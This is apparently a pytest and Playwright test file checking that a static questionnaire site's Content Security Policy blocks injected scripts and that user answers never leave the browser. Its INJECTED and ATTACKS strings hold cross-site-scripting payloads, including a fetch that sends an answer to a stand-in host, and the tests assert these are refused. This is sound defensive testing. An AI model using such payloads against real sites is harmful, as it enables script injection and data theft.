"""The policy is in force, tried by breaking it; and answers leave the device by no way."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest
from lacking import untested
from playwright.sync_api import expect
from ways_out import WAYS_OUT

from wizard.answer_code import encode
from wizard.app.exports import KINDS
from wizard.app.state import State, dump, fields_of
from wizard.loading import load
from wizard.questionnaire import ladder_topics

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "deploy"))
from hosts import running

PAGES = ["", "404.html", "zh/", "en/links/fill/", "en/matrix/", "zh/wizard/"]
INJECTED = """<script>window.broken = "inline script"</script>
<img src="x" alt="" onerror="window.broken = 'handler'"><a id="attack" href="javascript:window.broken = 'address'">x</a>
<script src="https://example.invalid/x.js"></script><iframe src="https://example.invalid/"></iframe></body>"""
LISTEN = """window.told = [];
addEventListener("securitypolicyviolation", ({effectiveDirective}) => told.push(effectiveDirective));"""
ATTACKS = (
    """async () => {
  const done = {};
  const attempt = (name, attack) => { try { attack(); } catch { done[name] = true; } };
  // What a debugger evaluates may use eval; what runs later is a script like any other.
  await new Promise((go) => setTimeout(go));
  document.getElementById("attack").click();
  attempt("eval", () => (0, eval)("window.broken = 'eval'"));
  attempt("Function", () => new Function("window.broken = 'Function'")());
  const script = document.createElement("script");
  attempt("text", () => { script.text = "window.broken = 'text'"; });
  document.body.append(script);
  attempt("worker", () => new Worker("https://example.invalid/worker.js"));
  attempt("address", () => { document.createElement("script").src = "https://example.invalid/y.js"; });
  attempt("policy", () => trustedTypes.createPolicy("another", { createHTML: (html) => html }));
  await import("data:text/javascript,window.broken='import'").catch(() => { done.import = true; });
  await fetch("https://example.invalid/?answer=1").catch(() => { done.fetch = true; });
"""
    + WAYS_OUT
    + """
  const box = document.createElement("div");
  const markup = "<b onclick='x'>b</b><iframe srcdoc='x'></iframe><a href='javascript:x'>a</a>";
  attempt("html", () => { box.innerHTML = markup; });
  await new Promise((go) => setTimeout(go, 400));
  return { broken: window.broken ?? null, done: Object.keys(done).sort(), told, html: box.innerHTML };
}"""
)
REFUSED = [
    "connect-src",
    "form-action",
    "frame-src",
    "img-src",
    "require-trusted-types-for",
    "script-src-attr",
    "script-src-elem",
]
THROWN = ["Function", "address", "eval", "fetch", "import", "policy", "text", "worker"]


@pytest.fixture(scope="module", params=["meta tag", "nginx"])
def served(request, site, tmp_path_factory):
    """The site with the pages' own policies alone, and as nginx serves it, with the header's besides."""
    if request.param == "meta tag":
        yield site
    elif not Path("/usr/sbin/nginx").exists():
        untested("nginx")
    else:
        folder = tmp_path_factory.mktemp("nginx")
        folder.chmod(0o755)
        with running("nginx", folder) as address:
            yield address


def tampered(route):
    """The page as its host sends it, with an attack written into it on the way."""
    answer = route.fetch()
    headers = {
        name: value for name, value in answer.headers.items() if name not in ("content-encoding", "content-length")
    }
    route.fulfill(status=answer.status, headers=headers, body=answer.text().replace("</body>", INJECTED))


@pytest.mark.parametrize("path", PAGES)
def test_the_policy_holds_against_attacks(browser, served, path):
    """By what is written into the page, and by what a script of the page does."""
    context = browser.new_context()
    page = context.new_page()
    left = []
    page.on("requestfinished", lambda request: left.append(request.url) if "example.invalid" in request.url else None)
    page.route(served + path, tampered)
    page.add_init_script(LISTEN)
    page.goto(served + path)
    found = page.evaluate(ATTACKS)
    context.close()
    assert found["broken"] is None
    assert [kind for kind in REFUSED if kind not in found["told"]] == []
    assert left == []
    # Pages that write HTML have a policy that lets the browser clean it; the others may write none.
    cleaned = path not in ("", "404.html")
    assert found["html"] == ("<b>b</b><a>a</a>" if cleaned else "")
    assert found["done"] == sorted([*THROWN, *([] if cleaned else ["html"])])


def test_the_wizard_runs_under_the_headers_of_a_real_host(browser, tmp_path):
    if not Path("/usr/sbin/nginx").exists():
        untested("nginx")
    tmp_path.chmod(0o755)
    with running("nginx", tmp_path) as address:
        context = browser.new_context()
        page = context.new_page()
        errors = []
        page.on("console", lambda message: errors.append(message.text) if message.type == "error" else None)
        page.goto(f"{address}zh/wizard/")
        page.locator('label:has(input[value="rail"])').click()
        page.locator(".btn--primary").click()
        expect(page.locator("#wz")).to_have_attribute("data-place", "topic/chain")
        context.close()
    assert errors == []


def test_no_answer_is_in_any_request_of_a_walk_with_every_export(browser, site):
    """All that leaves the page is written down: address, headers, body, of pages, workers and the service worker."""
    answers = {"sector": "rail", "rd_intensity": 4.37, "employees": 1873, "export_share": 61.7, "funding_gap": "severe"}
    names = {"who": "Zhao Qiang", "note": "Zebra note 7741"}
    code = encode(answers, load())
    context = browser.new_context(service_workers="allow", accept_downloads=True)
    sent = []

    def note(request):
        sent.append(f"{request.method} {request.url} {request.post_data or ''} {json.dumps(request.headers)}")

    context.on("request", note)
    page = context.new_page()
    page.set_default_timeout(60_000)
    plan = [{"action": "name_three_chain_gaps", "by": "2026-12-24", **names}]
    state = {**json.loads(dump(State(fields_of(answers), path="full"))), "plan": plan}
    page.goto(f"{site}en/about/")
    page.evaluate("kept => localStorage.setItem('five-links', kept)", json.dumps({"state": json.dumps(state)}))
    exports = set()
    page.goto(f"{site}en/wizard/")
    topics = [f"topic/{topic.id}" for topic in load().topics]
    topics += [f"ladder/topic/{topic.id}" for topic, _ in ladder_topics(load())]
    for step in (*topics, "check", "advice", "plan", "share", "compare", "ladder/check", "ladder"):
        page.evaluate("step => { location.hash = `#/${step}`; }", step)
        expect(page.locator("#wz")).to_have_attribute("data-place", step)
        for value in page.locator('button[value^="export:"]').evaluate_all("all => all.map((one) => one.value)"):
            if value not in exports:
                exports.add(value)
                page.locator(f'button[value="{value}"]').first.click()
                page.wait_for_timeout(700)
    page.evaluate("code => { location.hash = `#/open/${code}`; }", code)
    page.wait_for_timeout(1_000)
    page.reload()
    page.wait_for_timeout(500)
    context.close()
    assert exports == {f"export:{kind}" for kind in KINDS}
    secrets = [code, code.replace("-", ""), "4.37", "1873", "61.7", "severe", *names.values(), "Zebra"]
    assert [line for line in sent if any(secret in line for secret in secrets)] == []
    assert {line.split()[0] for line in sent} == {"GET"}
    assert [line for line in sent if not line.split()[1].startswith((site, "blob:", "data:"))] == []
